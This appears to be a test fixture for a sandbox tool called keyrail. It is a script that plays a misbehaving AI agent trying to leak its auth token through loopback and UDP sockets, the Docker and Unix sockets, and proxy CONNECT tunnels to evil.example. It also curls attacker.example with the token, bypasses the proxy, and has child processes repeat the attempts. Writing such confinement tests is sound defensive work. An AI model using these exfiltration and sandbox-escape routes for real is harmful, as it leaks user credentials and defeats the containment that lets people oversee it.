"""A misbehaving agent, run by `keyrail run` in the confinement tests: it tries
every way out it can think of with the workspace token it holds, and prints
one JSON object saying what each attempt did. It also has a child process
(python, and node when asked) try the same host listener, so the whole
process tree is tested, not just the first process.

argv[1]: a JSON object of targets (see test_confine.py)."""
import json
import os
import socket
import subprocess
import sys
import urllib.request

T = json.loads(sys.argv[1])
TOKEN = os.environ.get("ANTHROPIC_AUTH_TOKEN", "")
out = {}


def attempt(name, fn):
    try:
        out[name] = "ok: " + str(fn())[:200]
    except Exception as e:  # every failure is an answer
        out[name] = "failed: " + type(e).__name__ + ": " + str(e)[:200]


def tcp(host, port, family=socket.AF_INET, payload=None):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect((host, port))
    s.sendall(payload or f"GET /?k={TOKEN} HTTP/1.0\r\n\r\n".encode())
    s.close()
    return "sent"


def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(("leak " + TOKEN).encode(), (host, port))
    return s.recv(100)


def unix(path, abstract=False):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(("\0" + path) if abstract else path)
    s.sendall(("leak " + TOKEN).encode())
    return "sent"


def connect_via_gate(host, port, send=None):
    gate = os.environ["HTTPS_PROXY"].split("//", 1)[1].rstrip("/")
    gh, gp = gate.rsplit(":", 1)
    s = socket.create_connection((gh, int(gp)), timeout=5)
    s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        b = s.recv(4096)
        if not b:
            break
        head += b
    status = head.split(b"\r\n", 1)[0].decode(errors="replace")
    if " 200 " not in status + " ":
        raise RuntimeError(status)
    if send:
        s.sendall(send)
        data = b""
        while True:
            b = s.recv(4096)
            if not b:
                break
            data += b
        s.close()
        return data.decode(errors="replace")
    s.close()
    return status


def keyrail():
    base = os.environ["ANTHROPIC_BASE_URL"].rstrip("/")
    req = urllib.request.Request(base + "/v1/messages", method="POST",
                                 data=json.dumps({"model": T["model"], "max_tokens": 20,
                                                  "messages": [{"role": "user", "content": "hi"}]}).encode(),
                                 headers={"authorization": "Bearer " + TOKEN, "content-type": "application/json",
                                          "anthropic-version": "2023-06-01"})
    with urllib.request.urlopen(req, timeout=20) as r:
        return r.status


attempt("keyrail", keyrail)
attempt("host_v4", lambda: tcp("127.0.0.1", T["host_v4"]))
attempt("host_v6", lambda: tcp("::1", T["host_v6"], socket.AF_INET6))
attempt("netns_host", lambda: tcp(T["netns_addr"], T["netns_port"]))
attempt("udp53", lambda: udp("127.0.0.1", 53))
attempt("udp_attacker", lambda: udp("127.0.0.1", T["udp_port"]))
attempt("abstract", lambda: unix(T["abstract"], abstract=True))
attempt("docker_sock", lambda: unix(T["docker_sock"]))
attempt("xdg_sock", lambda: unix(T["xdg_sock"]))
attempt("dns", lambda: socket.getaddrinfo("attacker.example", 443))
attempt("gate_unlisted", lambda: connect_via_gate("evil.example", 443))
attempt("gate_loopback_name", lambda: connect_via_gate("localhost", T["host_v4"]))
attempt("gate_listed_private", lambda: connect_via_gate(T["netns_addr"], T["netns_port"]))
attempt("gate_listed", lambda: connect_via_gate(T["public_addr"], T["public_port"],
                                                send=b"GET /hello HTTP/1.0\r\n\r\n"))
attempt("curl_noproxy", lambda: subprocess.run(
    ["curl", "-sS", "--max-time", "3", "--noproxy", "*", f"http://127.0.0.1:{T['host_v4']}/?k={TOKEN}"],
    capture_output=True, text=True, timeout=10).returncode)
attempt("curl_proxy", lambda: subprocess.run(
    ["curl", "-sS", "--max-time", "5", f"https://attacker.example/?k={TOKEN}"],
    capture_output=True, text=True, timeout=10).returncode)
# a child process of its own tries too
child = subprocess.run([sys.executable, "-c", (
    "import socket,sys;s=socket.socket();s.settimeout(3)\n"
    "try:\n s.connect(('127.0.0.1',%d));s.sendall(b'child');print('ok')\n"
    "except Exception as e: print('failed',e)") % T["host_v4"]], capture_output=True, text=True, timeout=20)
out["child_python"] = child.stdout.strip()
if T.get("node"):
    child = subprocess.run([T["node"], "-e", (
        "const s=require('net').connect({host:'127.0.0.1',port:%d},()=>{s.write('node');console.log('ok');s.end()});"
        "s.on('error',e=>console.log('failed '+e.code));s.setTimeout(3000,()=>{console.log('failed timeout');s.destroy()})")
        % T["host_v4"]], capture_output=True, text=True, timeout=20)
    out["child_node"] = child.stdout.strip()
out["uid"] = os.getuid()
out["euid"] = os.geteuid()
try:
    out["capeff"] = [l for l in open("/proc/self/status") if l.startswith("CapEff")][0].split()[1]
    out["nnp"] = [l for l in open("/proc/self/status") if l.startswith("NoNewPrivs")][0].split()[1]
    out["seccomp"] = [l for l in open("/proc/self/status") if l.startswith("Seccomp:")][0].split()[1]
except Exception as e:
    out["status_err"] = str(e)
print(json.dumps(out))
